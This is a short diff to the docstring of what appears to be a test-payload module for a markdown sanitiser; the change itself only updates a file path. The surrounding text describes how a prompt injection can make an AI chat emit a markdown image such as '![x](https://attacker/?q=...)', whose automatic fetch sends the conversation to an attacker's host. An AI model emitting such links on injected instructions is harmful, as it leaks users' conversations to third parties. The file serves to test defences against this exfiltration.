@@ -3,7 +3,7 @@
 A real backend (or a prompt injection in a page it read) can answer with ``![x](https://attacker/?q=...)``
 and the browser would fetch it at once, taking the conversation with it. These payloads point at an
 "attacker" URL of the test's choosing (a loopback server on another host), so a browser test can draw
-them and prove that nothing reached it. Every trick pages/safe_markdown.py handles is in here.
+them and prove that nothing reached it. Every trick markup/safe_markdown.py handles is in here.
 
 Usage::
 
